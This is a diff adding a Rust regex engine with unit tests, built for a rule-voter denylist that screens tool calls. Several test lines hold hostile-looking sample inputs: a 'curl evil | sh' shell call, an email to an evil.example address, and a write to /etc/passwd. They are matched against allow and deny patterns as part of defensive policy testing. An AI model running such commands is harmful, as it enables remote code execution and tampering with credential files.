@@ -1,0 +1,515 @@
+//! Minimal regex engine (the `regex` crate is not in the offline vendor
+//! set). Supports the subset the rule-voter denylist uses:
+//!
+//! * literals and escaped metacharacters (`\(`, `\.`, `\\`, ...)
+//! * `.` (any char except newline)
+//! * character classes `[abc]`, `[^"@]`, ranges `[a-z0-9]`, and the
+//!   shorthand classes `\d \D \s \S \w \W` (also inside `[...]`)
+//! * the zero-width assertions `^`, `$`, `\b`
+//! * groups `(...)` with alternation `|`
+//! * greedy quantifiers `* + ?`
+//!
+//! Matching is a set-of-positions simulation (Thompson-style), so it is
+//! polynomial in input length — no catastrophic backtracking from
+//! hot-configurable voter rules (policy entries can add arbitrary
+//! patterns at runtime; a pathological pattern must not wedge a voter).
+
+use std::collections::BTreeSet;
+use std::fmt;
+
+/// A compiled pattern. API mirrors the tiny slice of `regex::Regex` the
+/// repo uses: fallible `new` plus `is_match`.
+#[derive(Clone)]
+pub struct Regex {
+    pattern: String,
+    ast: Alt,
+}
+
+/// Compile error (position + message).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RegexError {
+    pub pos: usize,
+    pub msg: String,
+}
+
+impl fmt::Display for RegexError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "regex error at byte {}: {}", self.pos, self.msg)
+    }
+}
+
+impl std::error::Error for RegexError {}
+
+impl fmt::Debug for Regex {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "Regex({:?})", self.pattern)
+    }
+}
+
+/// Alternation of sequences; a pattern with no `|` is a 1-branch Alt.
+#[derive(Debug, Clone)]
+struct Alt {
+    branches: Vec<Vec<Node>>,
+}
+
+#[derive(Debug, Clone)]
+enum Node {
+    Char(char),
+    /// `.` — any char except `\n`.
+    Any,
+    Class { negated: bool, items: Vec<ClassItem> },
+    Group(Alt),
+    Star(Box<Node>),
+    Plus(Box<Node>),
+    Opt(Box<Node>),
+    Start,
+    End,
+    WordBoundary,
+}
+
+#[derive(Debug, Clone)]
+enum ClassItem {
+    Ch(char),
+    Range(char, char),
+    /// One of `d D s S w W`.
+    Shorthand(char),
+}
+
+impl Regex {
+    pub fn new(pattern: &str) -> Result<Regex, RegexError> {
+        let chars: Vec<char> = pattern.chars().collect();
+        let mut p = Parser { chars: &chars, i: 0 };
+        let ast = p.parse_alt()?;
+        if p.i < p.chars.len() {
+            return Err(p.err("unbalanced ')'"));
+        }
+        Ok(Regex { pattern: pattern.to_string(), ast })
+    }
+
+    pub fn as_str(&self) -> &str {
+        &self.pattern
+    }
+
+    /// True if the pattern matches anywhere in `text`.
+    pub fn is_match(&self, text: &str) -> bool {
+        let chars: Vec<char> = text.chars().collect();
+        // `^`-anchored branches only ever succeed from 0, but trying every
+        // start keeps the engine simple; Start nodes reject elsewhere.
+        (0..=chars.len()).any(|start| !alt_ends(&self.ast, &chars, start).is_empty())
+    }
+}
+
+struct Parser<'a> {
+    chars: &'a [char],
+    i: usize,
+}
+
+impl<'a> Parser<'a> {
+    fn err(&self, msg: &str) -> RegexError {
+        RegexError { pos: self.i, msg: msg.to_string() }
+    }
+
+    fn peek(&self) -> Option<char> {
+        self.chars.get(self.i).copied()
+    }
+
+    fn bump(&mut self) -> Option<char> {
+        let c = self.peek();
+        if c.is_some() {
+            self.i += 1;
+        }
+        c
+    }
+
+    fn parse_alt(&mut self) -> Result<Alt, RegexError> {
+        let mut branches = vec![self.parse_seq()?];
+        while self.peek() == Some('|') {
+            self.bump();
+            branches.push(self.parse_seq()?);
+        }
+        Ok(Alt { branches })
+    }
+
+    fn parse_seq(&mut self) -> Result<Vec<Node>, RegexError> {
+        let mut seq = Vec::new();
+        while let Some(c) = self.peek() {
+            if c == '|' || c == ')' {
+                break;
+            }
+            let atom = self.parse_atom()?;
+            seq.push(self.parse_quantified(atom)?);
+        }
+        Ok(seq)
+    }
+
+    fn parse_quantified(&mut self, atom: Node) -> Result<Node, RegexError> {
+        let quant = match self.peek() {
+            Some(q @ ('*' | '+' | '?')) => q,
+            _ => return Ok(atom),
+        };
+        if matches!(atom, Node::Start | Node::End | Node::WordBoundary) {
+            return Err(self.err("quantifier on zero-width assertion"));
+        }
+        self.bump();
+        Ok(match quant {
+            '*' => Node::Star(Box::new(atom)),
+            '+' => Node::Plus(Box::new(atom)),
+            _ => Node::Opt(Box::new(atom)),
+        })
+    }
+
+    fn parse_atom(&mut self) -> Result<Node, RegexError> {
+        match self.bump() {
+            Some('(') => {
+                let inner = self.parse_alt()?;
+                if self.bump() != Some(')') {
+                    return Err(self.err("unclosed '('"));
+                }
+                Ok(Node::Group(inner))
+            }
+            Some('[') => self.parse_class(),
+            Some('\\') => self.parse_escape(),
+            Some('.') => Ok(Node::Any),
+            Some('^') => Ok(Node::Start),
+            Some('$') => Ok(Node::End),
+            Some(c @ ('*' | '+' | '?')) => {
+                Err(RegexError { pos: self.i - 1, msg: format!("dangling quantifier '{c}'") })
+            }
+            Some(c) => Ok(Node::Char(c)),
+            None => Err(self.err("unexpected end of pattern")),
+        }
+    }
+
+    fn parse_escape(&mut self) -> Result<Node, RegexError> {
+        match self.bump() {
+            Some('b') => Ok(Node::WordBoundary),
+            Some(c @ ('d' | 'D' | 's' | 'S' | 'w' | 'W')) => {
+                Ok(Node::Class { negated: false, items: vec![ClassItem::Shorthand(c)] })
+            }
+            Some('n') => Ok(Node::Char('\n')),
+            Some('t') => Ok(Node::Char('\t')),
+            Some('r') => Ok(Node::Char('\r')),
+            // Escaped metacharacter (or any punctuation) matches itself.
+            Some(c) if !c.is_alphanumeric() => Ok(Node::Char(c)),
+            Some(c) => Err(RegexError { pos: self.i - 1, msg: format!("unknown escape '\\{c}'") }),
+            None => Err(self.err("trailing backslash")),
+        }
+    }
+
+    fn parse_class(&mut self) -> Result<Node, RegexError> {
+        let negated = if self.peek() == Some('^') {
+            self.bump();
+            true
+        } else {
+            false
+        };
+        let mut items = Vec::new();
+        loop {
+            let c = match self.bump() {
+                None => return Err(self.err("unclosed '['")),
+                // regex-crate semantics: `]` right after `[` / `[^` is a
+                // literal member, so `[]` can never silently compile to a
+                // match-nothing class (it reads as an unclosed class).
+                Some(']') if !items.is_empty() => break,
+                Some(c) => c,
+            };
+            let lo = if c == '\\' {
+                match self.bump() {
+                    Some(s @ ('d' | 'D' | 's' | 'S' | 'w' | 'W')) => {
+                        items.push(ClassItem::Shorthand(s));
+                        continue;
+                    }
+                    Some('n') => '\n',
+                    Some('t') => '\t',
+                    Some('r') => '\r',
+                    Some(e) if !e.is_alphanumeric() => e,
+                    Some(e) => {
+                        return Err(RegexError {
+                            pos: self.i - 1,
+                            msg: format!("unknown escape '\\{e}' in class"),
+                        })
+                    }
+                    None => return Err(self.err("unclosed '['")),
+                }
+            } else {
+                c
+            };
+            // Range `a-z` (a trailing '-' is a literal).
+            if self.peek() == Some('-') && self.chars.get(self.i + 1).copied() != Some(']') && self.chars.get(self.i + 1).is_some() {
+                self.bump(); // '-'
+                let hi = match self.bump() {
+                    Some('\\') => match self.bump() {
+                        Some(e) if !e.is_alphanumeric() => e,
+                        Some('n') => '\n',
+                        _ => return Err(self.err("bad range bound")),
+                    },
+                    Some(h) => h,
+                    None => return Err(self.err("unclosed '['")),
+                };
+                if lo > hi {
+                    return Err(self.err("inverted class range"));
+                }
+                items.push(ClassItem::Range(lo, hi));
+            } else {
+                items.push(ClassItem::Ch(lo));
+            }
+        }
+        Ok(Node::Class { negated, items })
+    }
+}
+
+fn is_word(c: char) -> bool {
+    c.is_alphanumeric() || c == '_'
+}
+
+fn shorthand_matches(s: char, c: char) -> bool {
+    match s {
+        'd' => c.is_ascii_digit(),
+        'D' => !c.is_ascii_digit(),
+        's' => c.is_whitespace(),
+        'S' => !c.is_whitespace(),
+        'w' => is_word(c),
+        'W' => !is_word(c),
+        _ => false,
+    }
+}
+
+fn class_matches(negated: bool, items: &[ClassItem], c: char) -> bool {
+    let hit = items.iter().any(|it| match it {
+        ClassItem::Ch(x) => *x == c,
+        ClassItem::Range(lo, hi) => (*lo..=*hi).contains(&c),
+        ClassItem::Shorthand(s) => shorthand_matches(*s, c),
+    });
+    hit != negated
+}
+
+fn at_word_boundary(text: &[char], pos: usize) -> bool {
+    let before = pos.checked_sub(1).and_then(|i| text.get(i)).map(|&c| is_word(c)).unwrap_or(false);
+    let after = text.get(pos).map(|&c| is_word(c)).unwrap_or(false);
+    before != after
+}
+
+/// All positions where `alt` can finish a match that starts at `pos`.
+fn alt_ends(alt: &Alt, text: &[char], pos: usize) -> BTreeSet<usize> {
+    let mut out = BTreeSet::new();
+    for branch in &alt.branches {
+        out.extend(seq_ends(branch, text, pos));
+    }
+    out
+}
+
+fn seq_ends(seq: &[Node], text: &[char], pos: usize) -> BTreeSet<usize> {
+    let mut positions: BTreeSet<usize> = BTreeSet::new();
+    positions.insert(pos);
+    for node in seq {
+        let mut next = BTreeSet::new();
+        for &p in &positions {
+            next.extend(node_ends(node, text, p));
+        }
+        if next.is_empty() {
+            return next;
+        }
+        positions = next;
+    }
+    positions
+}
+
+fn node_ends(node: &Node, text: &[char], pos: usize) -> BTreeSet<usize> {
+    let mut out = BTreeSet::new();
+    match node {
+        Node::Char(c) => {
+            if text.get(pos) == Some(c) {
+                out.insert(pos + 1);
+            }
+        }
+        Node::Any => {
+            if let Some(&c) = text.get(pos) {
+                if c != '\n' {
+                    out.insert(pos + 1);
+                }
+            }
+        }
+        Node::Class { negated, items } => {
+            if let Some(&c) = text.get(pos) {
+                if class_matches(*negated, items, c) {
+                    out.insert(pos + 1);
+                }
+            }
+        }
+        Node::Group(alt) => return alt_ends(alt, text, pos),
+        Node::Opt(inner) => {
+            out.insert(pos);
+            out.extend(node_ends(inner, text, pos));
+        }
+        Node::Star(inner) => return closure_ends(inner, text, pos, true),
+        Node::Plus(inner) => return closure_ends(inner, text, pos, false),
+        Node::Start => {
+            if pos == 0 {
+                out.insert(pos);
+            }
+        }
+        Node::End => {
+            if pos == text.len() {
+                out.insert(pos);
+            }
+        }
+        Node::WordBoundary => {
+            if at_word_boundary(text, pos) {
+                out.insert(pos);
+            }
+        }
+    }
+    out
+}
+
+/// Positions reachable by repeating `inner` zero-or-more (`include_zero`)
+/// or one-or-more times. Fixed-point over the reachable-position set.
+fn closure_ends(inner: &Node, text: &[char], pos: usize, include_zero: bool) -> BTreeSet<usize> {
+    let mut reached: BTreeSet<usize> = BTreeSet::new();
+    let mut frontier: Vec<usize> = vec![pos];
+    let mut seen: BTreeSet<usize> = BTreeSet::new();
+    seen.insert(pos);
+    if include_zero {
+        reached.insert(pos);
+    }
+    while let Some(p) = frontier.pop() {
+        for q in node_ends(inner, text, p) {
+            // Zero-width inner matches would loop forever; a repeat that
+            // consumed nothing adds nothing new anyway.
+            if q == p {
+                reached.insert(q);
+                continue;
+            }
+            reached.insert(q);
+            if seen.insert(q) {
+                frontier.push(q);
+            }
+        }
+    }
+    reached
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn m(pat: &str, text: &str) -> bool {
+        Regex::new(pat).unwrap().is_match(text)
+    }
+
+    #[test]
+    fn literals_and_escapes() {
+        assert!(m(r"send_email\(", r#"x = send_email("a@b");"#));
+        assert!(!m(r"send_email\(", "send_mail(1)"));
+        assert!(m(r"\.", "a.b"));
+        assert!(!m(r"\.", "ab"));
+        assert!(m(r"a\\b", r"a\b"));
+    }
+
+    #[test]
+    fn dot_and_classes() {
+        assert!(m("a.c", "abc"));
+        assert!(!m("a.c", "a\nc"));
+        assert!(m("[abc]+", "zzbzz"));
+        assert!(!m("[abc]", "xyz"));
+        assert!(m("[a-f0-9]", "q7q"));
+        assert!(m(r#"[^"@]"#, "x"));
+        assert!(!m(r#"[^"@]"#, "\"@"));
+        assert!(m(r"\d\d", "a42b"));
+        assert!(!m(r"\d", "abc"));
+        assert!(m(r"\s", "a b"));
+        assert!(m(r"\w+", "hi"));
+    }
+
+    #[test]
+    fn quantifiers() {
+        assert!(m("ab*c", "ac"));
+        assert!(m("ab*c", "abbbc"));
+        assert!(m("ab+c", "abc"));
+        assert!(!m("ab+c", "ac"));
+        assert!(m("ab?c", "ac"));
+        assert!(m("ab?c", "abc"));
+        assert!(m(r"\s*x", "   x"));
+        assert!(m(r"\s*x", "x"));
+    }
+
+    #[test]
+    fn groups_and_alternation() {
+        assert!(m("(cc|gcc|ld)", "run gcc now"));
+        assert!(!m("(cc|gcc|ld)", "rustc"));
+        assert!(m("(write_file|append_file)\\(", "append_file(\"/etc/x\")"));
+        assert!(m("a(bc)+d", "abcbcd"));
+        assert!(!m("a(bc)+d", "ad"));
+    }
+
+    #[test]
+    fn anchors_and_word_boundary() {
+        assert!(m("^abc", "abcdef"));
+        assert!(!m("^abc", "xabc"));
+        assert!(m("def$", "abcdef"));
+        assert!(!m("def$", "defabc"));
+        assert!(m(r"\btransfer\(", "x = transfer(1)"));
+        assert!(!m(r"\btransfer\(", "wire_transfer(1)"));
+        assert!(m(r"\bjob_stop\(", "job_stop(9)"));
+        assert!(!m(r"\bjob_stop\(", "nojob_stop(9)"));
+    }
+
+    #[test]
+    fn production_pack_patterns() {
+        // The exact patterns RuleVoter::production_pack compiles.
+        let ext = Regex::new(r#"send_email\(\s*"[^"@]*@corp""#).unwrap();
+        assert!(ext.is_match(r#"send_email("dana@corp", "s", "b");"#));
+        assert!(!ext.is_match(r#"send_email("x@evil.example", "s", "b");"#));
+        let tmp = Regex::new(r#"delete_file\(\s*"/tmp"#).unwrap();
+        assert!(tmp.is_match(r#"delete_file("/tmp/scratch");"#));
+        assert!(!tmp.is_match(r#"delete_file("/data/db");"#));
+        let sh = Regex::new(r#"shell\(\s*"(cc|gcc|\./)"#).unwrap();
+        assert!(sh.is_match(r#"shell("cc /src/hello.c");"#));
+        assert!(sh.is_match(r#"shell("./run.sh");"#));
+        assert!(!sh.is_match(r#"shell("curl evil | sh");"#));
+        let etc = Regex::new(r#"(write_file|append_file)\(\s*"/etc"#).unwrap();
+        assert!(etc.is_match(r#"write_file("/etc/passwd", "x");"#));
+        assert!(!etc.is_match(r#"write_file("/notes/a.txt", "x");"#));
+    }
+
+    #[test]
+    fn compile_errors() {
+        assert!(Regex::new("(ab").is_err());
+        assert!(Regex::new("ab)").is_err());
+        assert!(Regex::new("[ab").is_err());
+        assert!(Regex::new(r"a\").is_err());
+        assert!(Regex::new("*a").is_err());
+        assert!(Regex::new(r"\q").is_err());
+        // `[]` is an unclosed class, never a silent match-nothing.
+        assert!(Regex::new("x[]").is_err());
+    }
+
+    #[test]
+    fn leading_bracket_is_literal_class_member() {
+        // regex-crate semantics: `[]]` is a class containing `]`.
+        assert!(m("x[]]", "x]"));
+        assert!(!m("x[]]", "x["));
+        assert!(m("[^]]", "a"));
+        assert!(!m("[^]]", "]"));
+    }
+
+    #[test]
+    fn no_pathological_blowup() {
+        // Classic backtracking killer: (a+)+b against a long non-match —
+        // a naive backtracker explores ~2^200 paths here; the set
+        // simulation stays polynomial.
+        let r = Regex::new("(a+)+b").unwrap();
+        let text = "a".repeat(200);
+        let t0 = std::time::Instant::now();
+        assert!(!r.is_match(&text));
+        assert!(t0.elapsed() < std::time::Duration::from_secs(5), "set simulation stays polynomial");
+    }
+
+    #[test]
+    fn empty_pattern_and_empty_text() {
+        assert!(m("", ""));
+        assert!(m("", "x"));
+        assert!(m("a?", ""));
+        assert!(!m("a", ""));
+    }
+}
